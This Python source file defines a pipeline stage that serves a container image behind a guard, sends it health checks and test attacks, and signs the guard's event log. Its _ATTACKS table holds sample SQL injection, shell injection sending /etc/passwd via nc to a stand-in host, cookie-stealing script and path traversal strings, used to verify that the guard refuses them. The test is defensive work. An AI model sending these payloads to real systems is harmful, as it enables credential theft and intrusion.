"""Stage 12: put the guard before the running service, and see that it answers, refuses attacks, and keeps a record."""

from __future__ import annotations

import http.client
import json
import shutil
import time
from collections.abc import Mapping
from dataclasses import asdict, dataclass
from urllib.parse import quote, urlsplit

from shipworthy.engine.stage import Job, Stage
from shipworthy.evidence.digest import sha256_file
from shipworthy.guard.runtime.answers import examine
from shipworthy.guard.runtime.events import read_events
from shipworthy.guard.runtime.summary import today, write_summary
from shipworthy.model import StageResult
from shipworthy.stages.dev.deploy_check import admit
from shipworthy.stages.dev.deployment import sign_protection
from shipworthy.stages.dev.fetched import fetch_image
from shipworthy.stages.dev.service import guarded, running
from shipworthy.stages.secrets import open_signing_keys

_ATTACKS: Mapping[str, str] = {
    "sql": "1' OR '1'='1' UNION SELECT name, password FROM users --",
    "shell": "; cat /etc/passwd | nc 192.0.2.1 4444",
    "markup": "<script>document.location='//192.0.2.1/'+document.cookie</script>",
    "traversal": "../../../../../../etc/shadow",
}
"""One of each family, as people send them; 192.0.2.0/24 is nobody's (RFC 5737)."""


_READ = 8192  # bytes of an answer that are looked at
_AGAIN, _LONGEST = 4, 15  # times, and seconds to wait for


@dataclass(frozen=True)
class Answer:
    """What came back: its status (0: nothing came) and the first part of its body."""

    status: int
    body: str = ""


def run(job: Job) -> StageResult:
    """Admit the image once more, serve it behind the guard, try it from outside, and sign what the guard recorded."""
    admitted = admit(job)
    digest = admitted.image.digest
    folder = job.folder / "guard"
    mode = job.settings.protect.mode
    if folder.exists():  # of a run that was stopped here
        shutil.rmtree(folder)
    with (
        running(job.settings, job.folder, fetch_image(job, digest), digest, "protect") as service,
        guarded(job.settings, job.root, service, digest, folder) as guard,
    ):
        answers = _try(job, guard.url)
        metrics = _ask(guard.metrics)
    summary = write_summary(
        guard.events, today(), open_signing_keys(job)["guard"], folder, written=guard.written, mode=mode
    )
    chain = read_events(guard.events)
    told = {name: asdict(answer) for name, answer in answers.items()}
    details = {"mode": mode, "answers": told, "events": dict(chain.kinds), "model": digest}
    outputs = {"events": sha256_file(guard.events), "summary": sha256_file(summary)}
    wrong = _wrong(job, answers, metrics)
    if wrong:
        return job.failed(wrong, "its events are in guard/guard-events.jsonl", details=details, outputs=outputs)
    attacks = sum(name in _ATTACKS for name in answers)
    refused = sum(answers[name].status == 403 for name in _ATTACKS if name in answers)
    probe = job.settings.service.probe
    facts = {"mode": mode, "answers": {name: answer.status for name, answer in answers.items()}}
    signed, links = sign_protection(job, admitted.image, guard.events, summary, facts)
    return job.passed(
        f"{probe.path if probe else job.settings.service.health} answers behind the guard; "
        f"{refused} of {attacks} attacks refused, {chain.count} events recorded and signed",
        inputs={"image": digest},
        outputs={**outputs, **signed},
        details={**details, "chain": links},
    )


def _try(job: Job, url: str) -> dict[str, Answer]:
    """A health check, the probe as it should be asked, and an attack of each family in its place."""
    service = job.settings.service
    answers = {"health": _ask(url + service.health)}
    answers["too large"] = _announce(url, job.settings.protect.body + 1)
    if (probe := service.probe) is None:
        return answers
    headers = {"Content-Type": probe.content_type}
    in_path = probe.method in ("GET", "HEAD")
    for name, text in {"probe": "", **_ATTACKS}.items():
        path = _asking(probe.path, text) if in_path and text else probe.path
        body = _inside(probe.body, text) if text else probe.body
        answers[name] = _ask(url + path, None if in_path else body.encode(), probe.method, headers)
    return answers


def _asking(path: str, text: str) -> str:
    """The probe's path with the attack as one more question."""
    return f"{path}{'&' if '?' in path else '?'}q={quote(text, safe='')}"


def _inside(body: str, text: str) -> str:
    """The probe's body with the attack in each of its texts; in place of its numbers where it has no texts."""
    try:
        value = json.loads(body)
    except ValueError:
        return text
    for kind in (str, object):
        attacked = _replaced(value, kind, text)
        if attacked != value:
            return json.dumps(attacked)
    return json.dumps({"q": text} if isinstance(value, dict) else text)


def _replaced(value: object, kind: type, text: str) -> object:
    """The value with the text for each part of this kind, at any depth."""
    if isinstance(value, dict):
        return {key: _replaced(each, kind, text) for key, each in value.items()}
    if isinstance(value, list):
        return [_replaced(each, kind, text) for each in value]
    return text if isinstance(value, kind) else value


def _ask(url: str, body: bytes | None = None, method: str = "GET", headers: Mapping[str, str] | None = None) -> Answer:
    """Ask the guard: straight, whatever proxies the environment names. One that says to come back later is asked again
    then: a rate that a client may not exceed holds for this one, too."""
    for _ in range(_AGAIN):
        answer, wait = _once(url, body, method, headers)
        if answer.status != 429 or not 0 < wait <= _LONGEST:
            break
        time.sleep(wait)
    return answer


def _announce(url: str, size: int) -> Answer:
    """Announce a body of that many bytes, and send none of it."""
    return _once(url + "/", None, "POST", {"Content-Length": str(size)})[0]


def _once(url: str, body: bytes | None, method: str, headers: Mapping[str, str] | None) -> tuple[Answer, int]:
    """The answer, and after how many seconds one may ask again (0: it does not say)."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=30)
    try:
        target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
        connection.request(method, target, body, dict(headers or {}))
        answer = connection.getresponse()
        wait = answer.getheader("Retry-After") or ""
        seconds = int(wait) if wait.isascii() and wait.isdigit() and len(wait) < 6 else 0
        return Answer(answer.status, _kept(answer.read(_READ))), seconds
    except (OSError, http.client.HTTPException) as error:
        return Answer(0, type(error).__name__), 0
    finally:
        connection.close()


def _kept(body: bytes) -> str:
    """What the record keeps of an answer: its beginning, unless there is what no record may hold. Some more is read
    than kept, so that a secret that is cut off by the end of what is kept is still seen as one."""
    if hits := examine(body):
        return f"(withheld: {', '.join(sorted({hit.detail for hit in hits}))})"
    return body[:500].decode("utf-8", "replace")


def _wrong(job: Job, answers: Mapping[str, Answer], metrics: Answer) -> str:
    """Why the protected service is not as it should be; empty when it is."""
    service, mode = job.settings.service, job.settings.protect.mode
    if answers["health"].status != 200:
        return f"behind the guard, {service.health} answers {answers['health'].status or 'nothing'}"
    if (probe := service.probe) and answers["probe"].status != probe.status:
        return f"behind the guard, {probe.path} answers {answers['probe'].status or 'nothing'} and not {probe.status}"
    let = [name for name in _ATTACKS if name in answers and answers[name].status != 403]
    if mode == "block" and let:
        return f"the guard let an attack pass: {', '.join(let)}"
    if mode != "off" and answers["too large"].status != 413:
        return f"the guard takes more than the {job.settings.protect.body} bytes of `[protect] body`"
    if metrics.status != 200:
        return "the guard's metrics do not answer"
    return ""


STAGE = Stage(
    "protect",
    "Runtime protection",
    "Serves the admitted image behind the guard: asks it as a client, attacks it, and signs what the guard recorded.",
    run,
)
